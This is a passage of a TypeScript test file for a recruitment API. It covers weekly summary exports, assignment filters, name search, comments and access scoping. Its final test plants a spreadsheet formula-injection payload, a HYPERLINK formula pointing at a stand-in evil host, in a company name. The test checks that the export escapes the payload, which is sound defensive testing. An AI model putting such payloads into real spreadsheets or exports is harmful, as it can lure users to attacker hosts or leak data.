      'Canceled',
      'Fill rate (%)',
    ]);
    expect(sheet?.getRow(2).values).toEqual([undefined, 'Summary Inc', 2026, 10, 6, 4, 3, 1, 1, 2, 3, 50]);
    // the screen's totals row (summaryTotals): the counts summed, the rate of the sums
    expect(sheet?.rowCount).toBe(4);
    const totals = summaryTotals(rows as unknown as Parameters<typeof summaryTotals>[0]);
    expect(sheet?.getRow(4).values).toEqual([
      undefined,
      'Totals',
      undefined,
      undefined,
      ...weeklySummaryCounts.map((key) => totals[key]),
      totals.fill_rate,
    ]);
    expect(sheet?.getRow(4).values).toEqual([
      undefined,
      'Totals',
      undefined,
      undefined,
      7,
      4,
      3,
      1,
      1,
      3,
      3,
      42.9,
    ]);
    // Spanish: the status counters carry the statuses' one label (docs/decisions.md "One label per status")
    const spanish = await send('GET', `/api/requeriments/export_summary/?year=2026&company=${company.id}`);
    const libro = new ExcelJS.Workbook();
    await libro.xlsx.load(spanish.rawPayload as unknown as ArrayBuffer);
    expect(libro.worksheets[0]?.getRow(1).values).toEqual(
      expect.arrayContaining(
        (['accepted', 'hired', 'rejected', 'not_attend'] as const).map((counter) =>
          translate('es', statusCounterLabelKey(counter)),
        ),
      ),
    );
    expect(libro.worksheets[0]?.getRow(1).values).toContain('No asistió');
  });

  it('leaves a cancelled requirement, hires included, out of requested, hired and the rate: no rate without requested positions', async () => {
    const company = await makeCompany(t, { name_es: unique('Cancelada ') });
    const req = (await makeRequirement(t, {
      company: company.id,
      requeriment_date: '2026-03-16',
      quantity: 2,
    })) as Req;
    const hired = await assign(req.items[0]?.id);
    await closeOk(hired.id, 'Accepted');
    await closeOk(hired.id, 'Hired');
    await reqAction('cancel_requeriment', { id: req.id, cancel_reason: 'Cliente canceló' });
    const res = await send('GET', `/api/requeriments/get_weekly_summary/?year=2026&company=${company.id}`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject([
      { week: 12, total_positions: 0, hired: 0, canceled: 2, open: 0, fill_rate: null },
    ]);
    const exported = await send('GET', `/api/requeriments/export_summary/?year=2026&company=${company.id}`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(exported.rawPayload as unknown as ArrayBuffer);
    // no rate: an empty cell
    expect(book.worksheets[0]?.getRow(2).getCell(11).value ?? null).toBeNull();
  });

  it('counts assignments per status, lists the filter values and the pending requirements', async () => {
    const { company, a, b, c } = await summaryFixture();
    const counts = await send('GET', `/api/requeriments/get_summary_status/?company=${company.id}`);
    expect(counts.json()).toEqual({ Pending: 0, Accepted: 1, Rejected: 2, Hired: 3, NotAttend: 1 });
    const one = await send('GET', `/api/requeriments/get_summary_status/?requeriment=${b.id}`);
    expect(one.json()).toEqual({ Pending: 0, Accepted: 0, Rejected: 0, Hired: 1, NotAttend: 0 });

    const pendings = (await send('GET', `/api/requeriments/check_pendings/?company=${company.id}`)).json();
    expect(pendings.pendings).toBe(3);
    expect(pendings.requeriments.map((r: ApiRow) => r.id)).toEqual(expect.arrayContaining([a.id, b.id]));
    expect(pendings.requeriments.map((r: ApiRow) => r.id)).not.toContain(c.id);
    expect((await send('GET', '/api/requeriments/check_pendings/')).statusCode).toBe(400);

    const user = await makeSignedInUser(t, { routes: ['requeriments-direct'], companies: [company.id] });
    const filters = (
      await send('GET', '/api/requeriments/get_filters/', undefined, { token: user.token })
    ).json();
    expect(filters).toEqual({
      years: [2026],
      weeks: [10, 11],
      companies: [{ id: company.id, name: company.name_es }],
      sites: [expect.objectContaining({ company: company.id })],
      statuses: expect.arrayContaining(['Recruiting', 'Cancel', 'New']),
    });
  });

  it('lists assignments with their requirement, candidate and position, filterable by status and requirement', async () => {
    const { a } = await summaryFixture();
    const res = await send('GET', `/api/requeriment-candidates/?page=1&requeriment_id=${a.id}&status=Hired`);
    expect(res.statusCode, res.body).toBe(200);
    const page = res.json() as { data: ApiRow[]; elements: number };
    expect(page.elements).toBe(2);
    expect(page.data[0]).toMatchObject({
      requeriment_id: a.id,
      requeriment_code: a.code,
      year: 2026,
      week: 10,
      site_name: expect.any(String),
      // the full name in Mexican order (docs/domain.md#candidates): the factory's Juan, Pérez…, López
      candidate_name: expect.stringMatching(/^Pérez\S* López Juan$/),
      position_name: expect.stringContaining('Operador'),
      status: 'Hired',
    });
    const searched = await send(
      'GET',
      `/api/requeriment-candidates/?requeriment_id=${a.id}&search=${encodeURIComponent(String(a.code))}`,
    );
    expect((searched.json() as ApiRow[]).length).toBe(5);
    // filters on the requirement's fields (year, week, site, code, status) select the requirements first
    const byWeek = (
      await send('GET', `/api/requeriment-candidates/?year=2026&week=10&company=${a.company}`)
    ).json();
    expect((byWeek as ApiRow[]).length).toBe(7);
    // a week is selective: its pages are read matches first, in the list's order, counted exactly
    for (const n of [1, 2, 3]) {
      const paged = await send(
        'GET',
        `/api/requeriment-candidates/?page=${n}&page_size=3&year=2026&week=10&company=${a.company}`,
      );
      expect(paged.json(), `page ${n}`).toEqual({
        data: (byWeek as ApiRow[]).slice((n - 1) * 3, n * 3),
        pages: 3,
        elements: 7,
      });
    }
    // both go in one selection of requirements (year and week together), each still applied
    for (const query of ['year=2026&week=11', 'year=2025&week=10', 'week=10&year=2026&site=0'])
      expect(
        (await send('GET', `/api/requeriment-candidates/?${query}&company=${a.company}`)).json(),
        query,
      ).toEqual([]);
    const otherWeek = await send('GET', `/api/requeriment-candidates/?week__in=11,12&company=${a.company}`);
    expect(otherWeek.json()).toEqual([]);
    const bySite = (await send('GET', `/api/requeriment-candidates/?site=${a.site}`)).json() as ApiRow[];
    expect(bySite.map((r) => r.requeriment_id)).toEqual([a.id, a.id, a.id, a.id, a.id]);
    const noSite = (
      await send('GET', `/api/requeriment-candidates/?company=${a.company}&site__isnull=true`)
    ).json();
    expect((noSite as ApiRow[]).length).toBe(2);
    const byCode = (await send('GET', `/api/requeriment-candidates/?requeriment_code=${a.code}`)).json();
    expect((byCode as ApiRow[]).length).toBe(5);
    const canceled = await send(
      'GET',
      `/api/requeriment-candidates/?company=${a.company}&requeriment_status=Cancel`,
    );
    expect((canceled.json() as ApiRow[]).map((r) => r.status)).toEqual(['Rejected']);
    const badYear = await send('GET', '/api/requeriment-candidates/?year=abc');
    expect(badYear.statusCode).toBe(400);
  });
});

describe('follow-up search', () => {
  it('finds assignments by candidate name without accents, by CURP and by requirement code; follows renames', async () => {
    const req = (await makeRequirement(t)) as Req;
    const surname = unique('Hernández');
    const candidate = await makeCandidate(t, { last_name: surname, curp: 'HEAM900101HBCRRN04' });
    const a = await assign(req.items[0]?.id, Number(candidate.id));
    const find = async (term: string) =>
      (
        (
          await send('GET', `/api/requeriment-candidates/?search=${encodeURIComponent(term)}`)
        ).json() as ApiRow[]
      ).map((row) => row.id);
    expect(await find(surname.replace('á', 'a').toLowerCase())).toEqual([a.id]);
    expect(await find('HEAM900101')).toContain(a.id);
    expect(await find(String(req.code))).toEqual([a.id]);
    const renamed = unique('Ibáñez');
    const put = await send('PUT', `/api/candidates/${candidate.id}/`, { last_name: renamed });
    expect(put.statusCode, put.body).toBe(200);
    expect(await find(renamed.replace('á', 'a').replace('ñ', 'n'))).toEqual([a.id]);
    expect(await find(surname)).toEqual([]);
  });

  it('finds an assignment by the name as lists show it, words in any order (issue 10, finding 13)', async () => {
    const req = (await makeRequirement(t)) as Req;
    const surname = unique('Quintanilla');
    const candidate = await makeCandidate(t, {
      names: 'Valeria',
      last_name: surname,
      second_name: 'Treviño',
    });
    const a = await assign(req.items[0]?.id, Number(candidate.id));
    const find = async (term: string) =>
      (
        (
          await send('GET', `/api/requeriment-candidates/?search=${encodeURIComponent(term)}`)
        ).json() as ApiRow[]
      ).map((row) => row.id);
    for (const term of [`${surname} Treviño Valeria`, `valeria ${surname}`, `TREVINO valeria ${surname}`])
      expect(await find(term), term).toEqual([a.id]);
    // a candidate word and the requirement code
    expect(await find(`${String(req.code)} valeria ${surname}`)).toEqual([a.id]);
    expect(await find(`${surname} Treviño Valeria Zzyzx`)).toEqual([]);
  });
});

describe('comments and documents', () => {
  it('hang on the requirement or on one assignment, with author and candidate names', async () => {
    const req = (await makeRequirement(t)) as Req;
    const a = await assign(req.items[0]?.id);
    await post(t, '/api/vacancy-comments/', { requeriment: req.id, comment: 'Arranque el lunes' });
    await post(t, '/api/vacancy-comments/', {
      requeriment: req.id,
      candidate: a.candidate,
      comment: 'Llega 8:00',
    });
    const all = (await send('GET', `/api/vacancy-comments/?requeriment=${req.id}`)).json() as ApiRow[];
    expect(all).toHaveLength(2);
    const mine = (
      await send('GET', `/api/vacancy-comments/?requeriment=${req.id}&candidate=${a.candidate}`)
    ).json();
    expect(mine).toMatchObject([
      {
        comment: 'Llega 8:00',
        user_name: 'Admin Recruitment',
        candidate_name: expect.stringContaining('Juan'),
      },
    ]);
    const file = await makeFileRecord(t);
    const doc = await post(t, '/api/vacancy-documents/', {
      requeriment: req.id,
      candidate: a.candidate,
      document: file.id,
      notes: 'Constancia',
    });
    expect(doc).toMatchObject({
      candidate_name: expect.stringContaining('Juan'),
      original_name: expect.any(String),
    });
  });
});

describe('scope and access', () => {
  it('hides other companies (404) and needs the direct routes (403)', async () => {
    const mine = await makeCompany(t);
    const theirs = (await makeRequirement(t)) as Req;
    const own = (await makeRequirement(t, { company: mine.id })) as Req;
    const theirAssignment = await assign(theirs.items[0]?.id);
    const user = await makeSignedInUser(t, {
      routes: ['requeriments-direct', 'requeriments-direct-status'],
      companies: [mine.id],
    });
    const as = { token: user.token };
    expect((await reqAction('approve_requeriment', { id: theirs.id }, as)).statusCode).toBe(404);
    expect((await reqAction('approve_requeriment', { id: own.id }, as)).statusCode).toBe(200);
    const foreignClose = await rc(
      'close_candidate',
      { id: theirAssignment.id, status: 'Rejected', reject_reason: rejectReason },
      as,
    );
    expect(foreignClose.statusCode).toBe(404);
    const assignForeign = await rc(
      'assign_candidate',
      {
        requeriment: theirs.items[0]?.id,
        candidate: (await makeCandidate(t)).id,
        interview_date: '2026-03-05',
        interview_time: '09:00',
      },
      as,
    );
    expect(assignForeign.statusCode).toBe(400);
    const summary = (
      await send('GET', '/api/requeriments/get_weekly_summary/?year=2026', undefined, as)
    ).json() as ApiRow[];
    expect(summary.every((row) => row.company === mine.id)).toBe(true);
    const list = (await send('GET', '/api/requeriment-candidates/', undefined, as)).json() as ApiRow[];
    expect(list.map((r) => r.id)).not.toContain(theirAssignment.id);

    const outsider = await makeSignedInUser(t, { routes: ['clients-companies'], companies: [mine.id] });
    const denied = await send('GET', '/api/requeriments/get_weekly_summary/?year=2026', undefined, {
      token: outsider.token,
    });
    expect(denied.statusCode).toBe(403);
    expect(
      (await reqAction('approve_requeriment', { id: own.id }, { token: outsider.token })).statusCode,
    ).toBe(403);
  });

  it('the follow-up status pages read requirements but do not write them (403)', async () => {
    const company = await makeCompany(t);
    const own = (await makeRequirement(t, { company: company.id })) as Req;
    const statusOnly = await makeSignedInUser(t, {
      routes: ['requeriments-direct-status', 'requeriments-direct-status-progress'],
      companies: [company.id],
    });
    const as = { token: statusOnly.token };
    expect((await send('GET', `/api/requeriments/${own.id}/`, undefined, as)).statusCode).toBe(200);
    expect((await reqAction('approve_requeriment', { id: own.id }, as)).statusCode).toBe(403);
    expect((await reqAction('cancel_requeriment', { id: own.id, cancel_reason: 'x' }, as)).statusCode).toBe(
      403,
    );
    expect((await send('DELETE', `/api/requeriments/${own.id}/`, undefined, as)).statusCode).toBe(403);
    const item = own.items[0];
    expect((await send('PUT', `/api/requeriment-items/${item?.id}/`, { quantity: 9 }, as)).statusCode).toBe(
      403,
    );
  });
});

describe('weekly summary export and formula injection (issue 27 item 2)', () => {
  it('writes a company named like a formula as text, the counts as numbers', async () => {
    const name = '=HYPERLINK("http://evil.example/?x","click")';
    const company = await makeCompany(t, { name_es: name });
    await makeRequirement(t, { company: company.id, requeriment_date: '2026-05-05', quantity: 3 });
    const res = await send('GET', `/api/requeriments/export_summary/?year=2026&company=${company.id}`);
    expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const row = book.worksheets[0]?.getRow(2);
    expect(row?.getCell(1).value).toBe(`'${name}`);
    expect(row?.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row?.getCell(2).value).toBe(2026);
    expect(row?.getCell(4).value).toBe(3);
  });
});
